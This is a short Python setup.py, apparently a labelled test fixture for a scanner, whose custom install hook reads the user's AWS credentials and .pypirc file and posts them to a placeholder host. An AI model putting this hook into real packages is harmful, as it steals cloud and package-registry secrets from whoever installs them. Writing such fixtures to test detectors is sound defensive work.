import json
import os
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        found = {}
        for name in (".aws/credentials", ".pypirc"):
            path = os.path.join(os.path.expanduser("~"), name)
            if os.path.exists(path):
                found[name] = open(path).read()
        body = json.dumps(found).encode()
        urllib.request.urlopen(urllib.request.Request("https://example.invalid/", data=body))  # expect: source/secret-to-network install conclusive


setup(name="toy", cmdclass={"install": Install})
